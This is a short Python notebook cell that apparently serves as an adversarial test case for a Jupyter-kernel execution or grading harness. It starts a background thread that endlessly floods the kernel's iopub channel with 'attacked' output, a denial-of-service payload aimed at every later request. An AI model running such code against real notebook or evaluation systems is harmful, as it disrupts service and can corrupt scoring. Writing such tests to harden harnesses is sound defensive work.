# tries: endless messages on iopub for every later request, as fast as possible
# earns: add, descend, squares, total
# %% own
import threading


def flood():
    kernel = get_ipython().kernel
    while True:
        try:
            kernel.session.send(
                kernel.iopub_socket,
                "stream",
                {"name": "stdout", "text": "attacked " * 1000},
                parent=kernel.get_parent(),
                ident=b"stream",
            )
        except Exception:
            pass


threading.Thread(target=flood, daemon=True).start()
